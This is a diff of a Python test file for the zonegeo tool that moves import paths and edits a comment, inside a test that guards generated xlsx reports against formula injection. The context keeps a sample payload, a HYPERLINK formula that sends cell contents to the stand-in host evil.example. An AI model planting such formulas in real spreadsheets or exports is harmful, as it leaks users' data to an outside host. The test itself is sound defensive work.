@@ -23,8 +23,8 @@ from hypothesis import strategies as st
 
 import zonegeo
 from tests._need import need
-from zonegeo import _sheets
 from zonegeo.cli import cli
+from zonegeo.io import sheets as _sheets
 
 #: The payload of the bug report, and one per dangerous first character.
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -183,7 +183,7 @@ def test_report_xlsx_has_no_formula(poisoned, tmp_path) -> None:
     out = tmp_path / "kpis.xlsx"
     _invoke("report", "--data", poisoned, "-o", out, "--as-of", "2025-02-01")
     # the only formulas are zonegeo's own: the Charts sheet's investment by zone
-    # kind, SUMIF over the Zone KPIs sheet (zonegeo.charts.add_xlsx_charts)
+    # kind, SUMIF over the Zone KPIs sheet (zonegeo.maps.charts.add_xlsx_charts)
     own = re.compile(r"Charts!C\d+='=IF\(COUNTIFS\(\\'Zone KPIs\\'!")
     formulas = _formula_cells(out)
     assert len(formulas) == 4 and all(own.match(f) for f in formulas), formulas
